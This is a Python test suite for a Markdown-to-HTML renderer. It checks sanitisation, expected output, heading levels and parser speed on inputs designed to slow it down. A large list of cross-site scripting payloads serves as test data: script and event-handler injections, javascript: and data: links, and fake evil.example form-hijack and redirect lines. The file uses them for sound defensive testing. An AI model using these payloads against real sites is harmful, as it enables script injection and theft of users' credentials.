"""What Markdown becomes, and what hostile Markdown doesn't."""

from __future__ import annotations

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from cairn.lib import markdown
from cairn.lib.markdown import LONGEST, render

PLAIN = "p br hr h1 h2 h3 h4 h5 h6 ul li blockquote pre code em strong s table thead tbody tr"
ALLOWED: dict[str, frozenset[str]] = {
    **dict.fromkeys(PLAIN.split(), frozenset()),
    **dict.fromkeys(("th", "td"), frozenset({"align"})),
    "ol": frozenset({"start"}),
    "a": frozenset({"href", "title", "rel"}),
}


class Inspector(HTMLParser):
    """Collects whatever a page of ours must not hold."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.faults.append(f"<{tag}>")
            return
        self.faults += [f"<{tag} {name}>" for name, _ in attrs if name not in ALLOWED[tag]]
        found = dict(attrs)
        if tag == "a":
            if found.get("rel") != "nofollow noopener":
                self.faults.append("a link without rel")
            if "href" in found and urlsplit(found["href"] or "").scheme not in ("http", "https", "mailto"):
                self.faults.append(f"a link to {found['href']}")

    def handle_comment(self, data: str) -> None:
        self.faults.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.faults.append("a declaration")

    def handle_pi(self, data: str) -> None:
        self.faults.append("an instruction")

    unknown_decl = handle_decl


def faults(drawn: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(drawn)
    inspector.close()
    return inspector.faults


HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://example.org' style='position:fixed;inset:0'>x</a>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#x01;javascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/promises/7/deleting/)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    '![x](https://evil.example/x.png" onerror="alert(1))',
    '[x](https://example.org "t\\" onmouseover=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    '| <img src=x onerror=alert(1)> |\n|:-"onclick=alert(1):|\n| x |',
    "# <script>alert(1)</script>",
    "\0<script\0>alert(1)</script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_gets_through(text: str) -> None:
    assert faults(render(text)) == []


@pytest.mark.parametrize("text", HOSTILE[:17])
def test_the_allowlist_alone_is_enough(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    open_parser = MarkdownIt("commonmark", {"html": True})
    monkeypatch.setattr(markdown, "_parser", lambda: open_parser)
    assert faults(render(text)) == []


@pytest.mark.parametrize("text", [text for text in HOSTILE if "[x](" not in text or "script" in text])
def test_the_parser_alone_is_enough_for_what_runs(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("nh3.clean", lambda drawn, **_: drawn)
    harmless = ("a link without rel", "a link to ", "<code class>", "<a ")
    assert [fault for fault in faults(render(text)) if not fault.startswith(harmless)] == []


def test_broken_twin_without_both_guards_it_all_gets_through(monkeypatch: pytest.MonkeyPatch) -> None:
    open_parser = MarkdownIt("commonmark", {"html": True})
    monkeypatch.setattr(open_parser, "validateLink", lambda address: True)
    monkeypatch.setattr(markdown, "_parser", lambda: open_parser)
    monkeypatch.setattr("nh3.clean", lambda drawn, **_: drawn)
    assert sum(bool(faults(render(text))) for text in HOSTILE) > 30


PIECES = st.sampled_from(
    [
        *HOSTILE,
        "<",
        ">",
        '"',
        "'",
        "&",
        "[",
        "](",
        ")",
        "![",
        "`",
        "*",
        "_",
        "|",
        "\n",
        "\n\n",
        "- ",
        "> ",
        "    ",
        "# ",
        "\\",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(PIECES, st.text(max_size=8)), max_size=12).map("".join))
def test_nor_any_mixture(text: str) -> None:
    assert faults(render(text)) == []


@pytest.mark.parametrize(
    ("text", "drawn"),
    [
        ("# Week", "<h2>Week</h2>"),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("*a* **b** ~~c~~ `d<`", "<p><em>a</em> <strong>b</strong> <s>c</s> <code>d&lt;</code></p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>'),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
        ("```py\na < b\n```", "<pre><code>a &lt; b\n</code></pre>"),
        ("[a](https://example.org)", '<p><a href="https://example.org" rel="nofollow noopener">a</a></p>'),
        ("<ana@example.org>", '<p><a href="mailto:ana@example.org" rel="nofollow noopener">ana@example.org</a></p>'),
        ("[a](/here)", '<p><a rel="nofollow noopener">a</a></p>'),
        ("<b>a</b> & b", "<p>&lt;b&gt;a&lt;/b&gt; &amp; b</p>"),
        ("Grüße 👋", "<p>Grüße 👋</p>"),
        ("", ""),
    ],
)
def test_what_it_becomes(text: str, drawn: str) -> None:
    assert render(text).strip() == drawn


def test_a_table_is_aligned_without_a_style() -> None:
    drawn = render("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert '<th align="center">a</th>' in drawn
    assert '<td align="right">2</td>' in drawn
    assert "style" not in drawn


@pytest.mark.parametrize(
    ("text", "words"),
    [("![the plan](https://a.example/b.png)", "the plan"), ("![](https://a.example/b.png)", "https://a.example/b.png")],
)
def test_an_image_is_a_link_to_it(text: str, words: str) -> None:
    assert render(text).strip() == f'<p><a href="https://a.example/b.png" rel="nofollow noopener">{words}</a></p>'


@pytest.mark.parametrize(("top", "levels"), [(1, "123456"), (2, "234566"), (4, "456666")])
def test_headings_fit_the_page_around_them(top: int, levels: str) -> None:
    text = "\n\n".join("#" * depth + " a" for depth in range(1, 7))
    assert render(text, top=top).split() == "\n".join(f"<h{level}>a</h{level}>" for level in levels).split()


def test_the_highest_heading_is_at_the_top_whatever_it_was_written_as() -> None:
    assert render("## a\n#### b\n## c", top=2).split() == ["<h2>a</h2>", "<h3>b</h3>", "<h2>c</h2>"]


def test_a_book_comes_out_as_plain_paragraphs() -> None:
    text = "<b>one</b>\ntwo\n\n\nthree\n\n" + "x" * LONGEST
    drawn = render(text)
    assert drawn.startswith("<p>&lt;b&gt;one&lt;/b&gt;<br>two</p>\n<p>three</p>\n<p>xxx")
    assert faults(drawn) == []


STEPS = int((2 * LONGEST) ** 0.5) - 5
BUSY = {
    "quotes": ">" * LONGEST,
    "brackets": "[" * LONGEST,
    "images": "![" * (LONGEST // 2),
    "stars": "**a*" * (LONGEST // 4),
    "emphasis": "*_" * (LONGEST // 2),
    "links": "[a](" * (LONGEST // 4),
    "lists in a line": "- " * (LONGEST // 2),
    "lists in lists": "\n".join(" " * depth + "- a" for depth in range(STEPS)),
    "ticks": "".join("`" * ticks + " " for ticks in range(STEPS)),
    "table": "|a" * (LONGEST // 20) + "|\n" + "|-" * (LONGEST // 20) + "|\n" + "|\n" * (LONGEST // 3),
}


@pytest.mark.parametrize("busy", BUSY.values(), ids=BUSY)
def test_a_text_made_to_keep_the_parser_busy_doesnt(busy: str) -> None:
    text = busy[:LONGEST]
    before = time.process_time()
    render(text)
    # About a second; what grows with the square of the length takes minutes.
    assert time.process_time() - before < 10
